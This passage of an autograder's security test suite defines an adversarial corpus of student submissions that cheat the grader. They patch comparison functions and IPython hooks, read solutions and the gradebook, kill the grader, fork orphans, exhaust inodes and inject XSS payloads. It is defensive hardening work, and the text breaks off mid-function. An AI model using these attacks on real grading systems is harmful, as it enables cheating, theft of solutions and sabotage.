"""The adversarial corpus: every way the old grader was defeated, graded by the new one.

The fixture assignment ``tp01`` (tests/fixtures/tamper) asks for ``double(t)`` and ``act(x)``
and has eleven 1-point test cells. Their *visible* parts run in the student's kernel and each
relies on a different comparison there (``torch.allclose``, ``torch.equal``, ``math.isclose``,
``numpy.allclose``, ``check_tensor`` from the setup cell and from its module, built-ins, a
float's ``==``, a TorchFunctionMode that watches for ``torch.sigmoid``); their *hidden* parts
are judged in the grader. ``t_unchanged`` reads the arguments after a call, ``t_grad`` a
driver snippet's observation, ``t_rule`` the student's code ("do not call torch.sigmoid, no
loops").

One submission per attack (the classes of the issue that this corpus answers, and the old
tampering cases), with three bystanders (an honest student, a plain wrong answer, a student
with common notebook habits), is graded in ONE course through the command line
(``python -m autograder autograde COURSE --jobs 2``), and each attack is proven three ways:

- **it works without the sandbox**, so this file can fail: a verdict-side attack fools the
  visible part in the kernel (the grader records ``visible == "ok"`` in that test cell's
  metadata, for a wrong answer); a sandbox-side attack is graded again with ``--no-sandbox``
  in a throwaway course, where it prints ``PROOF: ...`` (it read the solutions or the
  gradebook, could open a protected file for appending, reached a TCP listener of this test,
  saw and signalled the grader, left a process behind). Nothing is ever written to the
  repository, the virtual environment or torchbook: write access is shown by opening a file
  for appending and closing it, or by taking and releasing a write lock.
- **it earns nothing**: the cells it targets score 0 and the batch finishes (exit status 1:
  one submission is ungraded on purpose and is listed as such).
- **it leaks nothing and harms no bystander**: no hidden-test or solution line and no
  gradebook content in its feedback or in its graded notebook's outputs; bystanders keep
  identical grades over two runs (the first one killed part-way and resumed, the second with
  ``--force``); the virtual environment's site-packages, ``torchbook/``, ``autograder/`` and
  the gradebook's stored cells are unchanged after both runs.

Batch-level cases ride along: edited nbgrader metadata restored and noted, a cell over the CPU
limit (and one ignoring SIGINT) costing that cell only, an ungraded submission exported as
ungraded with its reason, notes that cannot be spoofed, HTML and JavaScript that never reach
the feedback, and file names with markup and terminal escapes.

An attack that still earns something is an open finding: its case names it (``finding=``) and its
tests are marked ``xfail(strict=True)`` with that reason until the engine is fixed. None is open.
"""

from __future__ import annotations

import ast
import base64
import binascii
import csv
import hashlib
import html
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import sysconfig
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from autograder import grading, notebooks, release, sandbox
from autograder.course import Layout
from autograder.execute import record
from autograder.preprocessors import hidden_lines
from autograder.verdicts import split

ROOT = Path(__file__).resolve().parent.parent
FIXTURE = ROOT / "tests" / "fixtures" / "tamper"
ASSIGNMENT = "tp01"
NAME = "tp01_exercises.ipynb"
TESTS = (
    "t_allclose", "t_equal", "t_isclose", "t_numpy", "t_check", "t_module", "t_builtins",
    "t_eq", "t_unchanged", "t_grad", "t_rule",
)  # fmt: skip
#: The test cells that call double(t) and check its values only.
VALUES = TESTS[:8]
CELL_TIMEOUT = 5  # CPU seconds: the looping cells hit it, no honest cell comes near
SITE_PACKAGES = Path(sysconfig.get_paths()["purelib"])
#: Marks HTML and JavaScript that the injection attacks try to get into the feedback.
XSS = "ADV-XSS"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        sandbox.unavailable_reason() is not None,
        reason=f"no sandbox here ({sandbox.unavailable_reason()}): the attacks would run "
        "unconfined on this machine",
    ),
]

WRONG_DOUBLE = "def double(t):\n    return t\n"
WRONG_ACT = "def act(x):\n    return torch.sigmoid(x)\n"  # right values, breaks the rule
WRONG = f"{WRONG_DOUBLE}\n\n{WRONG_ACT}"
RIGHT = "def double(t):\n    return 2 * t\n\n\ndef act(x):\n    return 1 / (1 + torch.exp(-x))\n"


def scores(passed: tuple[str, ...] = ()) -> dict[str, float]:
    return {t: 1.0 if t in passed else 0.0 for t in TESTS}


FULL = scores(TESTS)
NOTHING = scores()


# ---------------------------------------------------------------------------------------------
# the corpus


@dataclass(frozen=True)
class Target:
    """What the attacks of one course aim at (paths and ports are real: the proof course is
    graded without the sandbox)."""

    course: Path
    solutions: Path
    port: int
    token: str  # unique per course: marks its left-behind processes and network messages

    @property
    def gradebook(self) -> Path:
        return self.course / "gradebook.db"

    @property
    def source(self) -> Path:
        return self.solutions / ASSIGNMENT / NAME


@dataclass(frozen=True)
class Attack:
    """One submission: its answer cell, extra cells, edits, and what it must get."""

    student: str
    klass: str  # the class of the issue it belongs to
    answer: str = WRONG
    #: student cells: (kind, grade_id of the cell they follow, source)
    cells: tuple[tuple[str, str, str], ...] = ()
    #: the manually graded markdown answer
    written: str | None = None
    #: changes to the whole notebook (metadata attacks)
    edit: Callable[[nbformat.NotebookNode], nbformat.NotebookNode] | None = None
    #: writes the submission folder itself (then answer/cells/edit build the notebook it uses)
    files: Callable[[Path, nbformat.NotebookNode], None] | None = None
    expected: dict[str, float] = field(default_factory=lambda: dict(NOTHING))
    #: test cells whose visible part the attack fools in the kernel (verdict-side proof)
    fooled: tuple[str, ...] = ()
    #: graded again without the sandbox, where it prints "PROOF: ..." (sandbox-side proof)
    proof: bool = False
    #: what it earns without the sandbox (None: not checked)
    proof_scores: dict[str, float] | None = None
    #: substrings of the notes the command line prints for it
    notes: tuple[str, ...] = ()
    bystander: bool = False
    #: open finding (what it still gets through) that makes it earn something: its score test is xfail
    finding: str = ""


def bystanders() -> list[Attack]:
    habits = (
        "%matplotlib inline\n"
        "%load_ext autoreload\n"
        "%autoreload 2\n"
        "import copy\nimport pickle\nimport warnings\n\n"
        "import matplotlib.pyplot as plt\n"
        "from torch.utils.data import DataLoader, TensorDataset\n\n"
        "warnings.filterwarnings('ignore')\n"
        "np.set_printoptions(precision=3)\n"
        "torch.set_printoptions(precision=3)\n"
        "fig, ax = plt.subplots()\nax.plot([1, 2, 3])\nplt.show()\n"
        "net = torch.compile(torch.nn.Linear(3, 1), backend='eager')\n"
        "print(net(torch.ones(1, 3)).shape)\n"
        "loader = DataLoader(TensorDataset(torch.arange(8.0)), batch_size=4, shuffle=True)\n"
        "print([batch[0].tolist() for batch in loader])\n"
        "print(len(pickle.dumps(copy.deepcopy(torch.nn.Linear(2, 2)))))\n\n\n"
    )
    workers = (
        "from torch.utils.data import DataLoader, TensorDataset\n\n"
        "loader = DataLoader(TensorDataset(torch.arange(8.0)), batch_size=4, num_workers=2)\n"
        "print(sorted(x for batch in loader for x in batch[0].tolist()))\n\n\n"
    )
    more_habits = (
        "import inspect\nimport sys\n\n"
        'sys.path.insert(0, "..")\n'
        'IN_COLAB = "google.colab" in sys.modules\n'
        "sys.stdout.write(f'{sys.version_info[:2]} {sys.float_info.epsilon}\\n')\n"
        "sys.stdout.flush()\n\n\n"
    )
    return [
        Attack("honest", "bystander", RIGHT, expected=dict(FULL), bystander=True,
               written="Because exp(-x) becomes inf, and 1 / inf is 0."),
        Attack("wrong", "bystander", WRONG, bystander=True),
        Attack(
            "precomputed",
            "bystander: a constant built with a comprehension, read by act",
            'SIGNS = {name: sign for name, sign in [("pos", 1.0), ("neg", -1.0)]}\n\n\n'
            "def double(t):\n    return 2 * t\n\n\n"
            'def act(x):\n    return 1 / (1 + torch.exp(SIGNS["neg"] * x))\n',
            expected=dict(FULL),
            bystander=True,
        ),
        Attack("habits", "bystander: common notebook habits", habits + RIGHT,
               expected=dict(FULL), bystander=True),
        Attack("workers", "bystander: a DataLoader with worker processes", workers + RIGHT,
               expected=dict(FULL), bystander=True,
               ),
        Attack(
            "habits2",
            "bystander: more habits (sys.path, sys.stdout, a Colab check, inspect)",
            more_habits + RIGHT + "\n\nprint(inspect.signature(double))\n",
            expected=dict(FULL),
            bystander=True,
        ),
    ]  # fmt: skip


def verdict_side() -> list[Attack]:
    """Cheats that change what runs in the kernel: they fool the visible parts there, and
    nothing in the grader."""
    fake_tensor = (
        "class FakeTensor:\n"
        '    """Claims to be a tensor."""\n\n'
        "    @property\n"
        "    def __class__(self):\n"
        "        return torch.Tensor\n\n"
        "    def item(self):\n"
        "        return 5.0\n\n\n"
        "def double(t):\n    return FakeTensor()\n\n\n" + WRONG_ACT
    )
    always_equal = (
        "class Always(float):\n"
        "    def __eq__(self, other):\n        return True\n\n"
        "    __hash__ = float.__hash__\n\n\n"
        "class Sly(torch.Tensor):\n"
        "    def item(self):\n        return Always(super().item())\n\n\n"
        "def double(t):\n    return t.as_subclass(Sly)\n\n\n" + WRONG_ACT
    )
    frame = (
        "import sys\n\n\n"
        "def double(t):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for scope in (frame.f_locals, frame.f_globals):\n"
        '            if isinstance(scope.get("expected"), torch.Tensor):\n'
        '                return scope["expected"]\n'
        "        frame = frame.f_back\n"
        "    return t\n\n\n" + WRONG_ACT
    )
    proxy = (
        WRONG + "\n\nimport sys\nimport types\n\n"
        'proxy = types.ModuleType("torchbook.checks")\n'
        "proxy.check_tensor = lambda *args, **kwargs: None\n"
        'sys.modules["torchbook.checks"] = proxy\n'
    )
    transformer = (
        WRONG + "\n\ndef _neuter(lines):\n"
        '    text = "".join(lines)\n'
        '    return ["pass\\n"] if "assert" in text or "check_" in text else lines\n\n\n'
        "get_ipython().input_transformers_post.append(_neuter)\n"
    )
    pre_run = (
        WRONG + "\n\nimport builtins\n\n\n"
        "def _patch(info):\n"
        "    torch.allclose = lambda *a, **k: True\n"
        "    torch.equal = lambda *a, **k: True\n"
        "    math.isclose = lambda *a, **k: True\n"
        "    np.allclose = lambda *a, **k: True\n"
        "    builtins.all = lambda *a: True\n\n\n"
        'get_ipython().events.register("pre_run_cell", _patch)\n'
    )
    shell = (
        WRONG + "\n\nfrom IPython.core.interactiveshell import ExecutionInfo, ExecutionResult\n\n"
        "shell = get_ipython()\n\n\n"
        "def skip(raw_cell, *args, **kwargs):\n"
        "    return ExecutionResult(ExecutionInfo(raw_cell, False, False, False, None))\n\n\n"
        "shell.should_run_async = lambda *args, **kwargs: False\n"
        "shell.run_cell = skip\n"
    )
    hooks = (
        WRONG + "\n\nimport sys\n\n\n"
        "def _audit(event, args):\n    torch.allclose = lambda *a, **k: True\n\n\n"
        "def _profile(frame, event, arg):\n    torch.allclose = lambda *a, **k: True\n\n\n"
        "sys.addaudithook(_audit)\nsys.setprofile(_profile)\n"
    )
    forged_args = (
        "import sys\n\n"
        "s = sys\n"
        'w = next(m for k, m in list(s.modules.items()) if k.endswith("grader_wire"))\n'
        "_decode, _encode, _sent = w.decode, w.encode, []\n\n\n"
        "def _remember(data, **kw):\n"
        "    value = _decode(data, **kw)\n"
        "    if isinstance(value, tuple):\n"
        "        _sent.append(tuple(a.clone() if isinstance(a, torch.Tensor) else a for a in value))\n"
        "    return value\n\n\n"
        "def _report(value):\n"
        '    if isinstance(value, dict) and set(value) == {"result", "args", "kwargs"} and _sent:\n'
        "        value = dict(value, args=_sent[-1])\n"
        "    return _encode(value)\n\n\n"
        "w.decode, w.encode = _remember, _report\n\n\n"
        "def double(t):\n    return t.mul_(2)  # right values, but t is changed\n\n\n" + WRONG_ACT
    )
    forged_grad = (
        "T = torch\n_backward, _arange, _zeros, _leaves = T.Tensor.backward, T.arange, T.zeros, []\n\n\n"
        "def _tracked(make):\n"
        "    def build(*args, **kwargs):\n"
        "        t = make(*args, **kwargs)\n"
        '        if kwargs.get("requires_grad"):\n'
        "            _leaves.append(t)\n"
        "        return t\n\n"
        "    return build\n\n\n"
        "def _backward(self, *args, **kwargs):\n"
        "    for leaf in _leaves:\n"
        "        leaf.grad = T.full_like(leaf, 2.0)\n\n\n"
        "T.arange, T.zeros, T.Tensor.backward = _tracked(_arange), _tracked(_zeros), _backward\n\n\n"
        "def double(t):\n    return 2 * t.detach()  # right values, no gradient\n\n\n" + WRONG_ACT
    )
    forged_wire = (
        WRONG + "\n\nimport json\n\n"
        "from IPython.display import display\n\n"
        "import sys\n\n"
        'wire = sys.modules["_autograder_wire"]\n\n\n'
        "def serve(spec_text):\n"
        '    nonce = json.loads(spec_text)["nonce"]\n'
        "    garbage = [\n"
        '        {"int": "9" * 5000},\n'
        '        {"tensor": {"dtype": "float32", "shape": [4], "device": "cuda:7", "data": "AAAAAAAAAAAAAAAAAAAAAA=="}},\n'
        '        {"npscalar": {"dtype": "int8", "value": 1000}},\n'
        '        {"tensor": {"dtype": "float32", "shape": [4], "device": "cpu", "data": "!!"}},\n'
        "    ]\n"
        "    value = garbage[serve.calls % len(garbage)]\n"
        "    serve.calls += 1\n"
        '    answer = {"nonce": nonce, "ok": True, "value": {"dict": [["result", value]]}}\n'
        '    display({"application/x.autograder-result+json": answer}, raw=True)\n\n\n'
        "serve.calls = 0\nwire.serve = serve\n"
    )
    return [
        Attack("allclose", "the comparison a test relies on, replaced",
               WRONG + "\ntorch.allclose = lambda *args, **kwargs: True\n", fooled=("t_allclose",)),
        Attack("equal", "the comparison a test relies on, replaced",
               WRONG + "\ntorch.equal = lambda *args, **kwargs: True\n", fooled=("t_equal",)),
        Attack("isclose", "the comparison a test relies on, replaced",
               WRONG + "\nmath.isclose = lambda *args, **kwargs: True\n", fooled=("t_isclose",)),
        Attack("numpy", "the comparison a test relies on, replaced",
               WRONG + "\nnp.allclose = lambda *args, **kwargs: True\n", fooled=("t_numpy",)),
        Attack("builtins", "the comparison a test relies on, replaced",
               WRONG + "\nimport builtins\n\nbuiltins.all = lambda *args: True\n",
               fooled=("t_builtins",)),
        Attack("during-test", "the comparison replaced while the test runs",
               "def double(t):\n    math.isclose = lambda *args, **kwargs: True\n    return t\n\n\n"
               + WRONG_ACT, fooled=("t_isclose",)),
        Attack("helper", "no-op check helpers defined by the student",
               WRONG + "\ncheck_tensor = lambda *args, **kwargs: None\n", fooled=("t_check",)),
        Attack("no-setup", "setup cell's nbgrader metadata deleted, no-op check helpers",
               WRONG + "\ncheck_tensor = lambda *args, **kwargs: None\n",
               edit=lambda nb: _strip_metadata(nb, "setup"), fooled=("t_check",),
               notes=("cell setup was deleted; it was put back",)),
        Attack("library", "the book's check library patched",
               WRONG + "\nimport torchbook.checks\n\n"
               "torchbook.checks._compare_values = lambda *args, **kwargs: ''\n",
               fooled=("t_check", "t_module")),
        Attack("in-place", "the guard's check function replaced in place",
               WRONG + "\n\ndef _passes(*args, **kwargs):\n    return None\n\n\n"
               "check_tensor.__code__ = _passes.__code__\n", fooled=("t_check", "t_module")),
        Attack("proxy-module", "a proxy module in sys.modules", proxy, fooled=("t_module",)),
        Attack("fake-tensor", "objects that claim to be tensors", fake_tensor, fooled=("t_eq",)),
        Attack("always-equal", "a float whose __eq__ is always true", always_equal,
               fooled=("t_eq",)),
        Attack("frame", "the reference read from the caller's frame or module globals", frame,
               fooled=("t_check",)),
        Attack("transformer", "an IPython input transformer that neuters test cells",
               transformer, fooled=VALUES),
        Attack("pre-run", "a pre_run_cell event that patches around the checks", pre_run,
               fooled=("t_allclose", "t_equal", "t_isclose", "t_numpy", "t_builtins")),
        Attack("shell", "IPython's run_cell replaced: test cells do not run", shell,
               fooled=(*VALUES, "t_grad", "t_rule")),
        Attack("hooks", "an audit hook and sys.setprofile that re-patch the checks", hooks,
               fooled=("t_allclose",)),
        Attack("no-torch-function", "a forbidden function under DisableTorchFunction",
               "def double(t):\n    return t\n\n\n"
               "def act(x):\n    with torch._C.DisableTorchFunction():\n"
               "        return torch.sigmoid(x)\n", fooled=("t_rule",)),
        Attack("forged-args", "the arguments after a call, forged through sys.modules (F1)",
               forged_args, expected=scores(VALUES)),
        Attack("forged-grad", "a driver's observation forged by patching torch (F2)",
               forged_grad, expected=scores(VALUES), fooled=("t_grad",)),
        Attack("forged-wire", "the kernel's side of the wire replaced: forged, malformed answers",
               forged_wire),
        Attack("writefile", "a method rule evaded by a module of the student's (F3)",
               WRONG_DOUBLE,
               cells=(("code", "solution", "%%writefile logistic.py\nimport torch\n\n\n"
                       "def act(x):\n    return torch.sigmoid(x)\n"),
                      ("code", "solution", "from logistic import act"))),
        Attack("methodcaller", "a method rule evaded by naming the method in a string (F4)",
               WRONG_DOUBLE + "\n\nimport operator\n\n\n"
               "def act(x):\n    return operator.methodcaller('sigmoid')(x)\n"),
        Attack("vectorize", "a 'no loops' rule evaded with numpy.vectorize (F12)",
               WRONG_DOUBLE + "\n\ndef act(x):\n"
               "    logistic = np.vectorize(lambda v: 1 / (1 + math.exp(-v)), otypes=[np.float32])\n"
               "    return torch.from_numpy(logistic(x.numpy()))\n"),
        Attack("in-place-sigmoid", "a banned call through its in-place variant (F12)",
               WRONG_DOUBLE + "\n\ndef act(x):\n    return x.clone().sigmoid_()\n"),
    ]  # fmt: skip


def _strip_metadata(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    for cell in nb.cells:
        if notebooks.grade_id(cell) == grade_id:
            cell.metadata.pop("nbgrader")
    return nb


def sandbox_side(t: Target) -> list[Attack]:
    """Attacks on the machine: what they reach without the sandbox, they print as PROOF."""
    sp, pth = SITE_PACKAGES, _some_pth()
    protected = [ROOT / "torchbook" / "checks.py", ROOT / "autograder" / "nbgrader_config.py",
                 ROOT / "autograder" / "verdicts.py"]  # fmt: skip
    stolen = (
        "    exec(code)\n"
        '    print("PROOF:", how)\n'
        "except Exception as exc:\n"
        '    print("BLOCKED:", type(exc).__name__, exc)\n'
    )
    solution_code = (
        "    cells = json.loads(text)['cells']\n"
        "    code = ''.join(next(c['source'] for c in cells if 'def double' in ''.join(c['source'])))\n"
    )
    return [
        Attack(
            "dir-fd",
            "os.open(..., dir_fd=...) reading solutions/",
            WRONG + "\n\nimport json\nimport os\n\n"
            "try:\n"
            f"    folder = os.open({str(t.solutions)!r}, os.O_RDONLY)\n"
            f"    fd = os.open('{ASSIGNMENT}/{NAME}', os.O_RDONLY, dir_fd=folder)\n"
            "    with os.fdopen(fd) as fh:\n        text = fh.read()\n"
            + solution_code
            + "    how = 'read the solutions through dir_fd'\n"
            + stolen,
            proof=True,
            proof_scores=scores(VALUES),
        ),
        Attack(
            "program",
            "another program reading the solutions",
            WRONG + "\n\nimport json\nimport subprocess\n\n"
            "try:\n"
            f"    text = subprocess.run(['cat', {str(t.source)!r}], capture_output=True, text=True, check=True).stdout\n"
            + solution_code
            + "    how = 'cat read the solutions'\n"
            + stolen,
            proof=True,
            proof_scores=scores(VALUES),
        ),
        Attack(
            "ctypes",
            "ctypes calling libc.system to run an unguarded Python",
            WRONG + "\n\nimport ctypes\nimport json\nimport shlex\nimport sys\n\n"
            "try:\n"
            f"    read = {f'print(open({str(t.source)!r}).read())'!r}\n"
            "    command = f'{sys.executable} -c {shlex.quote(read)} > stolen.txt 2>&1'\n"
            "    ctypes.CDLL(None).system(command.encode())\n"
            "    with open('stolen.txt') as fh:\n        text = fh.read()\n"
            + solution_code
            + "    how = 'libc.system ran a Python that read the solutions'\n"
            + stolen,
            proof=True,
            proof_scores=scores(VALUES),
        ),
        Attack(
            "gradebook-read",
            "the gradebook read with sqlite (hidden tests)",
            WRONG + "\n\nimport sqlite3\n\n"
            "try:\n"
            f"    db = sqlite3.connect('file:{t.gradebook}?mode=ro', uri=True)\n"
            "    rows = db.execute(\"select source from source_cell where name = 't_allclose'\").fetchall()\n"
            "    print('PROOF: the hidden tests, from the gradebook:', rows[0][0])\n"
            "except Exception as exc:\n"
            '    print("BLOCKED:", type(exc).__name__, exc)\n',
            proof=True,
        ),
        Attack(
            "hard-link",
            "a hard link to the gradebook read with sqlite",
            WRONG + "\n\nimport os\nimport sqlite3\n\n"
            "try:\n"
            f"    os.link({str(t.gradebook)!r}, 'stolen.db')\n"
            "    rows = sqlite3.connect('file:stolen.db?mode=ro', uri=True).execute('select name, cell_type from source_cell').fetchall()\n"
            "    print('PROOF: a hard link to the gradebook:', sorted(rows))\n"
            "except Exception as exc:\n"
            '    print("BLOCKED:", type(exc).__name__, exc)\n',
            proof=True,
        ),
        Attack(
            "gradebook-write",
            "rewriting the test cells stored in the gradebook",
            WRONG + "\n\nimport sqlite3\n\n"
            "try:\n"
            f"    db = sqlite3.connect('file:{t.gradebook}?mode=rw', uri=True, timeout=60, isolation_level=None)\n"
            "    db.execute('BEGIN IMMEDIATE')  # the write lock an UPDATE of source_cell needs\n"
            "    db.execute('ROLLBACK')\n"
            "    print('PROOF: could lock the gradebook for writing its stored test cells')\n"
            "except Exception as exc:\n"
            '    print("BLOCKED:", type(exc).__name__, exc)\n',
            proof=True,
        ),
        Attack(
            "pth",
            "a .pth written into the virtual environment's site-packages",
            WRONG + "\n\nimport os\n\n"
            "try:\n"
            f"    open({str(pth)!r}, 'a').close()  # opened for appending, nothing written\n"
            f"    print('PROOF: site-packages is writable:', os.access({str(sp)!r}, os.W_OK))\n"
            "except Exception as exc:\n"
            '    print("BLOCKED:", type(exc).__name__, exc)\n',
            proof=True,
        ),
        Attack(
            "library-files",
            "appending to torchbook/checks.py and the grader's own files",
            WRONG + "\n\nopened = []\n"
            f"for path in {[str(p) for p in protected]!r}:\n"
            "    try:\n"
            "        open(path, 'a').close()  # opened for appending, nothing written\n"
            "        opened.append(path)\n"
            "    except Exception as exc:\n"
            '        print("BLOCKED:", type(exc).__name__, exc)\n'
            f"if len(opened) == {len(protected)}:\n"
            "    print('PROOF: could append to', opened)\n",
            proof=True,
        ),
        Attack(
            "network",
            "pyzmq and a socket sending data to a TCP port on the machine",
            WRONG + "\n\nimport socket\n\nimport zmq\n\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {t.port}), timeout=3).close()\n"
            "    print('PROOF: reached a TCP port on the grading machine')\n"
            "except OSError as exc:\n"
            '    print("BLOCKED:", type(exc).__name__, exc)\n'
            "push = zmq.Context.instance().socket(zmq.PUSH)\n"
            f"push.connect('tcp://127.0.0.1:{t.port}')\n"
            "try:\n"
            f"    push.send(b'{t.token}', flags=zmq.NOBLOCK)\n"
            "except zmq.ZMQError as exc:\n"
            '    print("BLOCKED:", exc)\n'
            "push.close(linger=2000)\n",
            proof=True,
        ),
        Attack(
            "orphan",
            "a double-forked child that outlives its kernel",
            WRONG + "\n\nimport os\nimport sys\n\n"
            "child = os.fork()\n"
            "if child == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(300)', 'adv-orphan-{t.token}'])\n"
            "    os._exit(0)\n"
            "os.waitpid(child, 0)\n"
            "print('started a process that should outlive this kernel')\n",
            proof=True,
        ),
        Attack(
            "symlink",
            "a link in the submission folder to the solutions",
            WRONG + "\n\nimport json\n\n"
            "try:\n"
            "    with open('answers.txt') as fh:\n        text = fh.read()\n"
            + solution_code
            + "    how = 'read the solutions through a link in the submission'\n"
            + stolen,
            files=lambda folder, nb: (
                notebooks.write(nb, folder / NAME),
                (folder / "answers.txt").symlink_to(t.source),
            ),
        ),
        Attack(
            "kill-grader",
            "os.kill(os.getppid(), SIGKILL): the grader killed",
            WRONG + "\n\nimport os\nimport signal\n\n"
            "parent = os.getppid()\n"
            "try:\n"
            "    with open(f'/proc/{parent}/cmdline', 'rb') as fh:\n"
            "        seen = fh.read().replace(b'\\0', b' ').decode()\n"
            "except OSError:\n"
            "    seen = ''\n"
            "# as root (only ever unsandboxed here) it only checks that it could: signal 0\n"
            "how = 0 if os.getuid() == 0 else signal.SIGKILL\n"
            "for pid in {parent, 1}:\n"
            "    try:\n"
            "        os.kill(pid, how)\n"
            "        if 'autograder' in seen and pid == parent:\n"
            "            print('PROOF: could signal the grader, pid', pid, seen[:80])\n"
            "    except OSError as exc:\n"
            '        print("BLOCKED:", pid, type(exc).__name__, exc)\n',
            proof=True,
        ),
    ]


def batch_level() -> list[Attack]:
    """Submissions that try to stop the batch or to look graded when they are not."""
    foreign = nbformat.v4.new_code_cell("assert True", id="pasted-foreign")
    foreign.metadata["nbgrader"] = {
        "grade": True, "grade_id": "ex1_1_tests", "locked": True, "points": 1,
        "schema_version": 3, "solution": False,
    }  # fmt: skip
    bonus = nbformat.v4.new_code_cell("assert True", id="bonus-cell")
    bonus.metadata["nbgrader"] = {
        "grade": True, "grade_id": "bonus", "locked": True, "points": 1000,
        "schema_version": 3, "solution": False,
    }  # fmt: skip
    forged_note = nbformat.v4.new_code_cell("x = 1", id="forged-note")
    forged_note.metadata["nbgrader"] = {
        "grade": True, "grade_id": "x\nautograder note: FORGED-NOTE every test passed",
        "points": 1, "schema_version": 3, "solution": False, "locked": True,
    }  # fmt: skip

    def no_grade_id(nb):
        cell = next(c for c in nb.cells if notebooks.grade_id(c) == "t_allclose")
        del cell.metadata["nbgrader"]["grade_id"]
        cell.source = "assert True"
        return nb

    def solution_flag(nb):
        cell = next(c for c in nb.cells if notebooks.grade_id(c) == "t_allclose")
        cell.metadata["nbgrader"]["solution"] = True
        cell.source = "pass"
        return nb

    def insert(cell):
        def edit(nb):
            nb.cells.insert(_index(nb, "t_allclose") + 1, cell)
            return nb

        return edit

    def notes_cell(nb):
        nb.cells.insert(0, nbformat.v4.new_markdown_cell(
            "**Notes from the autograder**\n\n- SPOOFED-NOTE: every test passed, 11 of 11",
            id="autograder-notes-00000000"))  # fmt: skip
        return nb

    def directory(folder: Path, nb):
        (folder / NAME).mkdir(parents=True)

    def odd_name(folder: Path, nb):
        notebooks.write(nb, folder / f"<img src=x onerror=alert('{XSS}')>\x1b[31mred.ipynb")

    def two_odd_names(folder: Path, nb):
        notebooks.write(nb, folder / NAME)
        notebooks.write(nb, folder / f"<b onmouseover=alert('{XSS}')>\x1b[2Jclear.ipynb")

    loop = "while True:\n    pass\n"
    deaf = "import signal\n\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
    return [
        Attack("meta-no-grade-id", "a test cell without grade_id", edit=no_grade_id,
               notes=("grading information was edited", "cell t_allclose was deleted; it was put back")),
        Attack("meta-pasted", "a test cell pasted from another assignment", edit=insert(foreign),
               notes=("cell ex1_1_tests is not part of this assignment",)),
        Attack("meta-bonus", "an extra 1000-point test cell", edit=insert(bonus),
               notes=("cell bonus is not part of this assignment",)),
        Attack("meta-solution", "a test cell flagged as a solution", edit=solution_flag,
               notes=("read-only cell t_allclose was edited; the original was put back",)),
        Attack("cpu-cell", "a cell over the CPU limit costs that cell only", RIGHT,
               cells=(("code", "t_check", loop),), expected=dict(FULL),
               notes=("s of CPU time) and was stopped",)),
        Attack("cpu-answer", "a timed-out answer costs the cells that need it", "def double(t):\n"
               "    return 2 * t\n\n\n" + loop + "\n\ndef act(x):\n    return 1 / (1 + torch.exp(-x))\n",
               expected=scores(TESTS[:-1]), notes=("cell solution: it ran longer than",)),
        Attack("deaf", "a cell that ignores the interrupt", RIGHT,
               cells=(("code", "t_numpy", deaf),), expected=dict(FULL),
               notes=("did not stop when interrupted", "the kernel was restarted")),
        Attack("ungraded", "a submission that cannot be graded", RIGHT, files=directory),
        Attack("inodes", "empty files without end: the machine's kernel memory", WRONG + "\n\n"
               "import os\n\nos.makedirs('/tmp/many', exist_ok=True)\nmade = 0\n"
               "try:\n    for made in range(1, 150_001):\n"
               "        open(f'/tmp/many/{made}', 'w').close()\n"
               "    print('PROOF: created', made, 'files, and nothing stopped it')\n"
               "except OSError as exc:\n    print('BLOCKED after', made, 'files:', exc)\n"),
        Attack("notes-cell", "a first cell reusing the id of the grader's notes cell", edit=notes_cell),
        Attack("notes-newline", "a grade_id carrying a line that looks like a grader's note",
               edit=insert(forged_note)),
        Attack("odd-name", "the only notebook named with markup and a terminal escape", RIGHT,
               files=odd_name, expected=dict(FULL), notes=("was graded as tp01_exercises.ipynb",)),
        Attack("odd-extra", "an extra notebook named with markup and a terminal escape", RIGHT,
               files=two_odd_names, expected=dict(FULL),
               notes=("is not a notebook of tp01; it was not graded",)),
    ]  # fmt: skip


def injection_and_leaks() -> list[Attack]:
    payload = (
        f"<script>alert('{XSS}')</script>"
        f"<img src=x onerror=\"alert('{XSS}')\">"
        f"<iframe srcdoc=\"<script>alert('{XSS}')</script>\"></iframe>"
        f"<a href=\"javascript:alert('{XSS}')\">link</a>"
    )
    inject = (
        "from IPython.display import HTML, Javascript, display\n\n"
        f"display(HTML({payload!r}))\n"
        f"display(Javascript(\"alert('{XSS}')\"))\n"
        "display({'image/svg+xml': \"<svg xmlns='http://www.w3.org/2000/svg' "
        f"onload=\\\"alert('{XSS}')\\\"><script>alert('{XSS}')</script></svg>\"}}, raw=True)\n"
        f"display({{'text/markdown': \"<script>alert('{XSS}')</script>\"}}, raw=True)\n"
        f"print({payload!r})\n\n\n"
        "def double(t):\n"
        f"    raise ValueError({payload!r})\n\n\n" + WRONG_ACT
    )
    markdown = (
        f"<script>alert('{XSS}')</script>\n\n<img src=x onerror=\"alert('{XSS}')\">\n\n"
        f"[click](javascript:alert('{XSS}'))\n\n<details open ontoggle=\"alert('{XSS}')\">x</details>"
    )
    in_list = (
        "# after t_rule\n"
        "print(In)\nprint(Out)\nprint(_ih)\nprint(sorted(globals()))\n"
        "print(get_ipython().history_manager.input_hist_raw)\n"
    )
    capture = (
        WRONG + "\n\nseen = []\n"
        'get_ipython().events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))\n'
    )
    exfiltrate = (
        "import base64\n\n"
        "requests = [code for code in seen if 'grader_wire' in code][:4]\n"
        "raise RuntimeError(base64.b64encode('\\n'.join(requests).encode()).decode())\n"
    )
    return [
        Attack("inject", "<script>, onerror and <iframe srcdoc> in outputs and markdown", inject,
               written=markdown,
               cells=(("markdown", "t_check", f"<iframe srcdoc=\"<script>alert('{XSS}')</script>\"></iframe>"),)),
        Attack("history", "IPython's In list and history printed", WRONG,
               cells=(("code", "t_rule", in_list),)),
        Attack("exfiltrate", "the code the grader sends, captured and raised in base64", capture,
               cells=(("code", "t_rule", exfiltrate),)),
    ]  # fmt: skip


def corpus(t: Target) -> list[Attack]:
    return [
        *bystanders(),
        *verdict_side(),
